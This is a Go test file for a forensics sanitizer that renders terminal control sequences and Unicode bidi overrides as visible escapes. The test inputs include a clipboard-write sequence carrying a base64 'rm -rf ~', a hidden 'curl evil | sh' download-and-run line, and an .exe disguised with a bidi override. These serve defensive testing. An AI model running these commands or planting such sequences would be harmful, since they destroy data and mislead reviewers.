package forensics

import (
	"encoding/json"
	"strings"
	"testing"
)

func TestSanitizeShowsEveryTerminalControlAsAVisibleEscape(t *testing.T) {
	cases := []struct {
		name, in, want string
	}{
		{"plain text is returned as it is", "ls -la /tmp", "ls -la /tmp"},
		{
			"ANSI colour cannot change the reviewer's terminal", "\x1b[31mred\x1b[0m",
			`\x1b[31mred\x1b[0m`,
		},
		{"screen clear cannot wipe the rows above", "\x1b[2J\x1b[Hgone", `\x1b[2J\x1b[Hgone`},
		{
			"OSC 52 cannot write the clipboard", "\x1b]52;c;cm0gLXJmIH4=\x07",
			`\x1b]52;c;cm0gLXJmIH4=\x07`,
		},
		{
			"carriage return cannot overwrite what was printed", "curl evil | sh\rls -la",
			`curl evil | sh\rls -la`,
		},
		{"8-bit CSI (C1) is escaped", "a\u009b2Jb", `a\u009b2Jb`},
		{
			"bidirectional override cannot reorder the line", "file\u202egpj.exe",
			`file\u202egpj.exe`,
		},
		{"newline keeps one record on one line", "one\ntwo", `one\ntwo`},
		{"backspace and bell are escaped", "a\x08b\x07", `a\x08b\x07`},
		{"DEL is escaped", "a\x7fb", `a\x7fb`},
		{"a backslash is doubled so written escapes are told apart", `C:\x1b`, `C:\\x1b`},
		{"bytes that are not UTF-8 are shown in hex", "ok\xff\xfe", `ok\xff\xfe`},
		{"printable Unicode stays readable", "café ✓ 日本", "café ✓ 日本"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := Sanitize(c.in)
			if got != c.want {
				t.Fatalf("Sanitize(%q) = %q, want %q", c.in, got, c.want)
			}
			for _, r := range got {
				if r < 0x20 || r == 0x7f || (r >= 0x80 && r <= 0x9f) || unsafeFormatRune(r) {
					t.Fatalf("Sanitize(%q) left control %U in %q", c.in, r, got)
				}
			}
		})
	}
}

func TestEscapeJSONUnsafeKeepsTheDocumentEquivalent(t *testing.T) {
	value := "csi\u009b2J bidi\u202e esc\x1b ok é"
	data, err := json.Marshal(map[string]string{"v": value})
	if err != nil {
		t.Fatal(err)
	}

	safe := escapeJSONUnsafe(data)
	want := `{"v":"csi\u009b2J bidi\u202e esc\u001b ok é"}`
	if string(safe) != want {
		t.Fatalf("escaped JSON = %s, want %s", safe, want)
	}

	var back map[string]string
	if err := json.Unmarshal(safe, &back); err != nil {
		t.Fatalf("escaped JSON no longer parses: %v", err)
	}
	if back["v"] != value {
		t.Fatalf("escaped JSON decodes to %q, want the original %q", back["v"], value)
	}
	if strings.ContainsRune(string(safe), 0x9b) {
		t.Fatal("raw C1 control left in JSON output")
	}
}
